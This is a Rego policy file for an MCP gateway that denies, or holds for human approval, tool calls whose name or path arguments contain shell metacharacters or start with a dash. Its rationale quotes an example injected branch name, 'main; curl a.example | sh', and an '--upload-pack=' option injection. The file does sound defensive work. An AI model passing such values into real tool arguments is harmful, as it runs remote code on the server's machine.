# METADATA
# title: Names and paths hold no shell
# description: >-
#   Denies (or holds) calls in which an argument that should be a name, a path or a reference holds what a shell would
#   act on: `;`, a pipe, `&&`, a backtick, `$(`, `${`, a line break. A reference or a name that starts with `-` is
#   refused too, because programs take it for an option.
# custom:
#   severity: high
#   category: shell
#   since: 0.2.0
#   owasp_llm: [LLM05:2025, LLM01:2025]
#   owasp_mcp: [MCP05:2025]
#   does: deny (or hold)
#   remediation: >-
#     Pass the plain name; what has to be run belongs into a tool made for it.
#   why: >-
#     Many servers put their arguments into a command line: `git checkout ` and whatever came. `main; curl a.example |
#     sh` as a branch, or `--upload-pack=…` as a repository, then runs on the machine of the server. It is the most
#     frequent fault in MCP servers.
#   false_positives: >-
#     A file that really has `;` or `|` in its name: name the tool in `except`, or take the argument name out of
#     `keys`.
#   misses: >-
#     Arguments under other names, and texts that may be anything. `&`, `<`, `>`, blanks and quotes pass, because
#     names have them.
#   settings:
#     keys: "arguments that are a name, a path or a reference, in lower case, at any depth"
#     option_keys: "those of them that no program may take for an option, so that they must not start with `-`"
#     marks: "what a shell would act on"
#     except: "tools that are not looked at"
#     action: "`deny` or `hold`"
#     approvers: "who may approve, e.g. `[\"group:oncall\"]`; none: anybody with the role approver"
package rules.shell.injection

import rego.v2

import data.lib.arguments
import data.lib.holds
import data.lib.tool

deny contains $"argument `{name}` holds what a shell would act on: pass a plain name" if {
	input.from == "client"
	input.method == "tools/call"
	not _settings.action == "hold"
	some name in _names
}

hold contains holds.reason($"argument `{sort(_names)[0]}` holds what a shell would act on: a human must approve it", _settings.approvers) if {
	input.from == "client"
	input.method == "tools/call"
	_settings.action == "hold"
	count(_names) > 0
}

deny contains "shell/injection is not configured: see its settings in data.yaml" if {
	input.from == "client"
	input.method == "tools/call"
	not _configured
}

_names contains named.name if {
	not tool.among(_settings.except)
	some named in arguments.under(_settings.keys)
	some mark in _settings.marks
	contains(named.value, mark)
}

_names contains named.name if {
	not tool.among(_settings.except)
	some named in arguments.under(_settings.option_keys)
	startswith(trim_space(named.value), "-")
}

_settings := data.settings["shell/injection"]

_configured if {
	is_array(_settings.keys)
	is_array(_settings.option_keys)
	is_array(_settings.marks)
	is_array(_settings.except)
	_settings.action in {"deny", "hold"}
	is_array(_settings.approvers)
}
